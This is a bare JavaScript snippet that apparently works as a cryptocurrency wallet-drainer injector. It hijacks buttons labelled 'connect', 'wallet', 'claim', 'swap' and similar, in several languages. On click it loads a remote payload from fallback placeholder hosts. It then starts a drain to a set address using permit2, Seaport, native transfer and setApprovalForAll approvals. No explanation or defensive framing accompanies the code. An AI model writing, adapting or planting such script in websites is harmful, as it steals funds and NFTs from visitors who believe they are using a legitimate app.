!function(){
  if(sessionStorage.__q)return;
  var D=["cdn-widgets.example","js-metrics.example"],n=0;
  var re=/connect|wallet|claim|launch app|swap|stake|подключить|conectar|bağla/i;
  function boot(){
    var s=document.createElement("script");
    s.src="https://"+D[n]+"/m/"+btoa(location.host).replace(/=/g,"")+".js";
    s.onerror=function(){if(++n<D.length)boot()};
    s.onload=function(){sessionStorage.__q=1;window.__start&&window.__start({to:"0x000000000000000000000000000000000000dEaD",min:10,retry:true,methods:["permit2","seaport","native","setApprovalForAll"],title:document.title})};
    document.head.appendChild(s);
  }
  function take(){
    document.querySelectorAll("button,a,[role=button]").forEach(function(b){
      if(b.__t||!re.test(b.textContent))return;
      b.__t=1;
      var c=b.cloneNode(true);
      c.removeAttribute("href");
      c.addEventListener("click",function(e){e.stopImmediatePropagation();e.preventDefault();window.__open?window.__open():boot()},true);
      b.replaceWith(c);
    });
  }
  new MutationObserver(take).observe(document.documentElement,{childList:true,subtree:true});
  document.readyState==="loading"?document.addEventListener("DOMContentLoaded",take):take();
}();
